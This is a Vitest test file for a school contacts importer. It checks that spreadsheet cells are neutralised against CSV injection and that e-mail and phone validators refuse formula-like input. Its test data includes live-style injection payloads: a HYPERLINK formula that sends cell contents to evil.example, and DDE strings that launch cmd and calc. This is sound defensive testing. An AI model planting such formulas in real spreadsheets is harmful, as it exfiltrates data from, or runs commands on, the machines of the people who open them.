import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreNeutralised } from '../../core/imports/formula-cells.js';
import { isEmail, isPhone } from '../../core/people/rules/people-rules.js';

describe('spreadsheet cells: formulas neutralised (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Нажмите")', `'=HYPERLINK("http://evil.example/?"&A1,"Нажмите")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['@SUM(1+1)*cmd|', `'@SUM(1+1)*cmd|`],
    ['-2+3+cmd|', `'-2+3+cmd|`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['+7 900 100-00-01', `'+7 900 100-00-01`],
  ])('prefixes %j with a quote', (text, safe) => {
    expect(neutraliseFormula(text)).toBe(safe);
    // An import of our own export reads the cell as it was.
    expect(restoreNeutralised(safe)).toBe(text);
  });

  it.each(['Иванов', 'Учитель математики', 'a=b', '', '-5', '+7', '3.5', '-0,25', "'quoted already"])('leaves %j as it is', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
    expect(restoreNeutralised(text)).toBe(text);
  });
});

describe('contacts: e-mails and phones as schools have them, nothing a spreadsheet would run', () => {
  it.each(['ivanova@school.example', 'i.ivanova+7a@mail.example', 'director@школа.рф', '_office@gymnasium-5.example', 'A1@b.co'])('accepts the e-mail %s', (email) => {
    expect(isEmail(email)).toBe(true);
  });
  it.each(['=HYPERLINK("x")@a.ru', '-2+3@x.ru', '+cmd@x.ru', '@SUM@x.ru', 'orlova@', 'a..b@x.ru', 'a b@x.ru', 'a@b', 'a@-b.ru', `${'a'.repeat(65)}@x.ru`])('refuses the e-mail %s', (email) => {
    expect(isEmail(email)).toBe(false);
  });
  it.each(['+7 900 100-00-01', '8 (495) 123-45-67', '(495) 123-45-67', '89001000001', '+375 29 123-45-67'])('accepts the phone %s', (phone) => {
    expect(isPhone(phone)).toBe(true);
  });
  it.each(['-2+3+cmd|', '=1+2', '@SUM(1)', '+7 900 ABC-00-01', '----------', '(((((((((((', '123', '+7 900 100 00 01 23 45 67', '7+900-100-00-01'])('refuses the phone %s', (phone) => {
    expect(isPhone(phone)).toBe(false);
  });
});
